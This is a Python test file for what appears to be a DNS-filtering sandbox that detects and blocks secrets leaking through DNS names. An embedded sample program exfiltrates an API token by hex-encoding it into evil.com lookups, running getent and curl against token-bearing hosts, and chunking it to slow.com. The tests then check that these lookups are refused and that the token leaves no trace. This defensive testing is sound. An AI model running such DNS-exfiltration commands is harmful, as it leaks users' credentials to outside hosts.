# Secrets: what the operator names for a session leaves in no name, and is found nowhere afterwards.
import base64
import json
import os

from cases import case, equal, holds
from cases_tunnel import alert_program
from dns_client import ask_udp
from postern_process import Daemon, run
from private_host import Namespace, temp_folder, wait_until, write
from recording_upstream import RecordingUpstream

TOKEN = "sk-live-9fQ2xW7LtV4mZ8rKb3Yd"   # 28 octets
FILE_TOKEN = b"\x8f\x01\xfe" + os.urandom(29)
LONGEST_LEFT = 6                          # octets of a value that may be found in a row afterwards


def spellings(value):
    """A few encodings of a value, by label-sized names that hold it."""
    return {"hex": value.hex(), "base32": base64.b32encode(value).decode().rstrip("="),
            "base64url": base64.urlsafe_b64encode(value).decode().rstrip("="),
            "reversed hex": value[::-1].hex(), "decimal": "".join(f"{c:03d}" for c in value[:16])}


def labels(text, size=50):
    return ".".join(text[at:at + size] for at in range(0, len(text), size))


def forms(value):
    """What must not be found: the value's parts of more than LONGEST_LEFT octets, in these spellings."""
    parts = [value[at:at + LONGEST_LEFT + 2] for at in range(len(value) - LONGEST_LEFT - 1)]
    found = {part.lower() for part in parts} | {part.hex().encode() for part in parts}
    for text in (base64.b32encode(value), base64.b64encode(value), base64.urlsafe_b64encode(value)):
        found |= {text[at:at + 14].lower() for at in range(len(text) - 14)}
    return found


def holds_no(value, what, octets):
    octets = octets.lower()
    for form in forms(value):
        holds(form not in octets, f"{what} holds {form!r}")


def files_below(folder):
    for place, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(place, name)
            with open(path, "rb") as file:
                yield path, file.read()


_PROGRAM = """
import os, socket, subprocess
token = os.environ["API_TOKEN"]
def look(name):
    try:
        return socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0]
    except OSError:
        return "refused"
print(look("www.example.com"), look(token.encode().hex() + ".evil.com"), look("mail.example.com"))
print(subprocess.run(["getent", "hosts", token + ".other.com"]).returncode)
print(subprocess.run(["curl", "-sS", "-m", "3", "http://" + token[::-1] + ".evil.com/"],
                     stderr=subprocess.DEVNULL).returncode)
for at in range(0, len(token), 4):
    look(f"{at}-" + token[at:at + 4].encode().hex() + ".slow.com")
"""


@case("a secret named to run leaves by no name of curl, getent or a program, and is nowhere afterwards")
def _():
    upstream = RecordingUpstream()
    program, told = alert_program()
    os.environ["API_TOKEN"] = TOKEN
    script = write(os.path.join(temp_folder(), "leak.py"), _PROGRAM)
    done = run("/usr/bin/python3", script, upstream=upstream.text, quiet=False,
               options=("--session", "s", "--secret-env", "API_TOKEN", "--alert-exec", program))
    lines = done.out.split("\n")
    holds(lines[0].split()[1] == "refused" and lines[0].split()[0] != "refused"
          and lines[0].split()[2] != "refused", done)
    equal((lines[1], lines[2]), ("2", "6"), done)  # getent: not found; curl: could not resolve

    secret_alerts = [a for a in done.alerts() if a["kind"] == "secret"]
    equal({a["zone"] for a in secret_alerts}, {"evil.com", "other.com", "slow.com"}, secret_alerts)
    evidence = [json.loads(a["evidence"]) for a in secret_alerts]
    equal({e["encoding"] for e in evidence}, {"hex", "plain"}, evidence)
    equal({e["secret"] for e in evidence}, {"API_TOKEN"}, evidence)
    equal(len({e["fingerprint"] for e in evidence}), 1, evidence)
    rows = done.rows("reason = 'secret'")
    holds(rows and all(r["rcode"] == "NXDOMAIN" and r["name"].startswith("[secret:api_token].") and
                       r["rule"] == "secret: API_TOKEN" for r in rows), rows)
    wait_until(lambda: len([a for a in told() if a["kind"] == "secret"]) == 3, "the alert program is told")

    slow = "".join(seen.name.split(".")[0].split("-")[1] for seen in upstream.queries()
                   if seen.name.endswith(".slow.com"))
    holds(len(slow) // 2 <= LONGEST_LEFT + 2, f"{slow} went upstream")
    holds(not [s for s in upstream.queries() if s.name.endswith(("evil.com", "other.com"))], "went upstream")
    value = TOKEN.encode()
    for path, octets in files_below(os.path.dirname(done.db)):
        holds_no(value, path, octets)
    holds_no(value, "stderr", done.err.encode())
    holds_no(value, "the alert program's stdin", json.dumps(told()).encode())


@case("a daemon keeps a session's secrets over its sandboxes, and forgets them only with its own end")
def _():
    upstream = RecordingUpstream()
    daemon = Daemon(upstream=(upstream.text,), policy="types: any\nnames: any\n")
    first, second = Namespace("first"), Namespace("second")
    key = os.path.join(temp_folder(), "key.bin")
    with open(key, "wb") as file:
        file.write(FILE_TOKEN + b"\n")
    os.environ["API_TOKEN"] = TOKEN
    daemon.attach(first, session="s", more=("--secret-file", key, "--secret-env", "API_TOKEN"))
    daemon.attach(second, session="s")
    for number, (what, text) in enumerate(spellings(FILE_TOKEN).items()):
        equal(ask_udp(f"{labels(text)}.zone{number}.com", "TXT", netns=first.path).rcode_name, "NXDOMAIN", what)
    equal(ask_udp(f"{labels(TOKEN)}.evil.com", netns=second.path).rcode_name, "NXDOMAIN", "of the other sandbox")
    equal(ask_udp("www.example.com", netns=second.path).rcode_name, "NOERROR")
    daemon.command("detach", "--name", "first")
    daemon.command("detach", "--name", "second")
    daemon.attach(second, session="s")
    equal(ask_udp(f"{labels(TOKEN)}.evil.org", netns=second.path).rcode_name, "NXDOMAIN", "attached again")
    equal([s.name for s in upstream.queries()], ["www.example.com"], "what went upstream")
    equal({json.loads(a["evidence"])["secret"] for a in daemon.alerts("kind = 'secret'")},
          {"key_bin", "API_TOKEN"})
    for said in (daemon.command("ls", "--json").stdout, daemon.command("status").stdout,
                 daemon.command("leak", "--json").stdout, daemon.log()):
        holds_no(FILE_TOKEN, "what the daemon says", said.encode())
        holds_no(TOKEN.encode(), "what the daemon says", said.encode())
    daemon.stop()
    for path, octets in files_below(daemon.folder):
        holds_no(FILE_TOKEN, path, octets)
        holds_no(TOKEN.encode(), path, octets)

    daemon.start()  # it knows nothing of them: whoever attaches names them again
    daemon.attach(second, session="s", more=("--secret-env", "API_TOKEN"))
    equal(ask_udp(f"{labels(TOKEN)}.evil.com", netns=second.path).rcode_name, "NXDOMAIN", "named again")


@case("secrets that cannot be watched for are refused with their names, before the command is started")
def _():
    os.environ["PIN"] = "123"
    for options, said in ((("--secret-env", "PIN"), '"PIN": it has 3 octets'),
                          (("--secret-env", "NOT_THERE"), '"NOT_THERE": there is no such environment variable'),
                          (("--secret-file", "/nowhere/key"), '"/nowhere/key"')):
        done = run("/bin/echo", "started", options=options, quiet=False)
        equal((done.status, done.out), (125, ""), done)
        holds(said in done.err and "123" not in done.err.replace("/nowhere", ""), done)
    daemon = Daemon()
    inside = Namespace("inside")
    refused = daemon.attach(inside, more=("--secret-env", "PIN"), check=False)
    holds(refused.returncode == 125 and '"PIN"' in refused.stderr, refused.stderr)
    equal(daemon.sandboxes(), [])
